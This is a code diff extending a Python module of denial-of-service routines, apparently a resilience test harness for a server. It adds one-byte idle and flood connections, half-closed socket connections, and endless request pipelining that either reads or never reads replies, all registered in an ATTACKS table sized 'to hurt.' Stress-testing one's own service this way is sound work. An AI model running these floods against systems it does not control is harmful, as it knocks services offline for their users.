@@ -16,10 +16,13 @@ from contextlib import suppress
 
 from attrs import define
 
+FEW = 4
 KEY = b"/keys/tz1RecHxwZJmZY4dypq2KmvxKYgUBGJceH1v"
 MANY = 2000
 _CLIENT_HELLO = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"
 _DRIP = 0.5
+_RETURN = 5.0
+"""Seconds after which an idle client who had to go comes back; at once, it would be a flood."""
 
 
 @define
@@ -107,9 +110,27 @@ async def _idle(target: Target) -> None:
         await target.until_closed(await target.connect())
 
 
+async def _byte_idle(target: Target) -> None:
+    """Idle, but not for the system, which keeps connections without a byte to itself."""
+    while True:
+        connection = await target.connect()
+        with suppress(OSError):
+            await target.send(connection, b"G")
+        await target.until_closed(connection)
+        await asyncio.sleep(_RETURN)
+
+
 async def _flood(target: Target) -> None:
     while True:
         (await target.connect()).close()
+
+
+async def _byte_flood(target: Target) -> None:
+    while True:
+        connection = await target.connect()
+        with suppress(OSError):
+            await target.send(connection, b"G")
+        connection.close()
 
 
 async def _endless_chunks(target: Target) -> None:
@@ -164,17 +185,83 @@ async def _half_closed(target: Target) -> None:
         await target.until_closed(connection)
 
 
+async def _half_closed_socket(target: Target) -> None:
+    while True:
+        connection = await target.connect(target.socket_port)
+        with suppress(OSError):
+            await target.send(connection, b"\x00\x40\x00")
+            connection.shutdown(socket.SHUT_WR)
+        await target.until_closed(connection)
+
+
+_ROUTE = b"GET /x HTTP/1.1\r\nHost: x\r\n\r\n"
+_AUTHORIZED_KEYS = b"\x00\x01\x02"
+_AT_ONCE = 1000
+
+
+async def _pipeline(target: Target, request: bytes, port: int, reads: bool) -> None:
+    """Send one request behind the other, and read the answers or never any."""
+    while True:
+        connection = await target.connect(port)
+        tasks = [asyncio.create_task(_send_endlessly(target, connection, request * _AT_ONCE))]
+        if reads:
+            tasks.append(asyncio.create_task(_receive_endlessly(connection)))
+        try:
+            await asyncio.wait(tasks, return_when=asyncio.FIRST_COMPLETED)
+        finally:
+            for task in tasks:
+                task.cancel()
+            await asyncio.gather(*tasks, return_exceptions=True)
+            connection.close()
+        target.refused += 1
+
+
+async def _send_endlessly(target: Target, connection: socket.socket, data: bytes) -> None:
+    with suppress(OSError):
+        while True:
+            await target.send(connection, data)
+
+
+async def _receive_endlessly(connection: socket.socket) -> None:
+    with suppress(OSError):
+        while await asyncio.get_running_loop().sock_recv(connection, 65536):
+            pass
+
+
+async def _pipelining(target: Target) -> None:
+    await _pipeline(target, _ROUTE, target.port, reads=True)
+
+
+async def _never_reading(target: Target) -> None:
+    await _pipeline(target, _ROUTE, target.port, reads=False)
+
+
+async def _pipelining_socket(target: Target) -> None:
+    await _pipeline(target, _AUTHORIZED_KEYS, target.socket_port, reads=True)
+
+
+async def _never_reading_socket(target: Target) -> None:
+    await _pipeline(target, _AUTHORIZED_KEYS, target.socket_port, reads=False)
+
+
 ATTACKS: dict[str, Attack] = {
     "slow-headers": _many(500, _slow_headers),
     "slow-body": _many(500, _slow_body),
     "slow-handshake": _many(500, _slow_handshake),
     "idle-connections": _many(MANY, _idle),
+    "byte-idle": _many(MANY, _byte_idle),
     "connection-flood": _many(100, _flood),
+    "byte-flood": _many(100, _byte_flood),
     "endless-chunks": _many(8, _endless_chunks),
     "semicolons": _many(8, _semicolons),
     "deep-json": _many(8, _deep_json),
     "half-closed": _many(100, _half_closed),
+    "half-closed-socket": _many(100, _half_closed_socket),
     "stalled-frames": _many(500, _stalled_frames),
+    "pipelining": _many(FEW, _pipelining),
+    "never-reading": _many(FEW, _never_reading),
+    "pipelining-socket": _many(FEW, _pipelining_socket),
+    "never-reading-socket": _many(FEW, _never_reading_socket),
 }
 """By name, each with as many connections at a time as it takes to hurt."""
 
